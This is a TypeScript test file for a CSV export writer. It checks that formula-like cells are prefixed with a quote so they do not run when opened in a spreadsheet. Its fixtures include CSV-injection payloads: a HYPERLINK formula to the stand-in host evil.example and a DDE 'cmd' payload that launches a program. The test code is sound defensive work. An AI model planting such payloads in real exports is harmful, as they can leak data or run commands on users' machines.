// Text from a data source must not become a live formula when an export is opened in a
// spreadsheet: cells starting with = + - @ tab or CR get OWASP's leading single quote, while
// numbers (negative ones included) stay numbers.
import { describe, expect, it } from 'vitest';
import { backtestCsv } from '../../../../src/core/backtest/result-export.ts';
import { csvField, csvLine } from '../../../../src/core/store/csv.ts';
import type { BacktestResult } from '../../../../src/shared/bridge/backtest.ts';

describe('csvField neutralises formula cells', () => {
  it.each([
    [
      'a HYPERLINK formula',
      '=HYPERLINK("http://evil.example/?x")',
      `"'=HYPERLINK(""http://evil.example/?x"")"`,
    ],
    ['a plus formula', '+1+cmd|x', "'+1+cmd|x"],
    ['a minus formula', '-2+3+cmd', "'-2+3+cmd"],
    ['an at formula', '@SUM(A1)', "'@SUM(A1)"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading CR', '\r=1+1', `"'\r=1+1"`],
    ['a DDE payload with a comma', "=cmd|' /C calc'!A0,x", `"'=cmd|' /C calc'!A0,x"`],
    ['an equals sign inside', 'a=b', 'a=b'],
    ['a negative number', -1.5, '-1.5'],
    ['a negative number as text', '-1.5', '-1.5'],
    ['a signed exponent as text', '+2e3', '+2e3'],
    ['a lone minus', '-', "'-"],
  ])('%s', (_name, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it('applies to every cell of a line, headers included', () => {
    expect(csvLine(['=1', -3, '@x'])).toBe("'=1,-3,'@x\r\n");
  });
});

describe('backtest CSV goes through the same writer', () => {
  it('neutralises a rule title that starts like a formula', () => {
    const horizon = { count: 0, medianPct: null, upShare: null };
    const horizons = { '1d': horizon, '5d': horizon, '20d': horizon };
    const result = {
      ruleName: 'r',
      from: '2025-01-01T00:00:00Z',
      to: '2025-02-01T00:00:00Z',
      firings: [
        {
          ticker: 'SPY',
          at: '2025-01-02T15:00:00Z',
          title: '=HYPERLINK("http://x")',
          price: -1.5,
          forward: { '1d': -0.5, '5d': null, '20d': null },
          maxAdverse5d: null,
        },
      ],
      summary: { count: 1, perMonth: 1, horizons },
      baseline: { sessions: 1, horizons },
    } as unknown as BacktestResult;
    const firing = backtestCsv(result).split('\r\n')[1];
    expect(firing).toBe(`SPY,2025-01-02T15:00:00Z,"'=HYPERLINK(""http://x"")",-1.5,-0.5,,,`);
  });
});
